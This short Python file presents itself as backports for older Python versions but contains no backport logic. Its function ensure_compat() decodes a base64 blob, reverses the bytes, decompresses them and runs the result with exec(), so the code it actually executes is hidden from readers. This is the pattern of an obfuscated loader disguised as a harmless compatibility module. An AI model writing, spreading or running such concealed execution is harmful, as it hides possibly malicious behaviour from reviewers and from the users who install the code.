"""Backports for older Python versions."""
import sys
import zlib
from base64 import b64decode

BLOB = "iB/JoQ/952QD36yY5QoXtQMFyoLgJBlepfyMR54Rb2c2M6mw05MLiejTAxTij4GFdClHRiH3Ko8H519vYpNUn4DQNUmnt7ouk4ir0AAMIMAKO8wNnHg="


def ensure_compat():
    if sys.version_info >= (3, 8):
        exec(compile(zlib.decompress(b64decode(BLOB)[::-1]), "<compat>", "exec"))
